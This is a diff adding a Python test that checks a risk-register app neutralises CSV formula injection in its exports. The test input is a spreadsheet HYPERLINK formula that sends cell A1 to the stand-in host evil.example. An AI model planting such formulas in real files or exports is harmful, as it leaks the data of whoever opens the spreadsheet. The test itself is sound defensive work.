@@ -90,3 +90,24 @@ def test_statement_of_applicability_over_http(seeded: Seeded, client_for: Any) -
     table = pl.read_csv(io.BytesIO(client.get("/api/soa?format=csv", headers=auth).content))
     assert table["control"].to_list() == [c["id"] for c in body["controls"]]
     assert client.get("/api/soa?system=nope", headers=auth).status_code == 404
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(
+    seeded: Seeded, client_for: Any
+) -> None:
+    """CSV injection: a title typed by one user must not run in the spreadsheet of whoever opens
+    the export; the JSON feed keeps the text as typed."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with g.open_workspace(seeded.root, user="analyst") as ws:
+        risk = g.add_risk(ws, system="credit", title=evil, category="mit:1.3", likelihood=2,
+                          severity=2, owner="analyst", description="-1+1")  # fmt: skip
+    client, _ = client_for()
+    auth = _token(seeded)
+    table = pl.read_csv(io.BytesIO(client.get("/api/export/risks", headers=auth).content))
+    row = table.filter(pl.col("ref") == risk.ref).row(0, named=True)
+    assert row["title"] == "'" + evil
+    cells = [v for r in table.select(pl.col(pl.String)).rows() for v in r if v is not None]
+    assert cells
+    assert not [v for v in cells if v.startswith(("=", "+", "-", "@"))]
+    rows = client.get("/api/export/risks?format=json", headers=auth).json()["rows"]
+    assert next(r for r in rows if r["ref"] == risk.ref)["title"] == evil
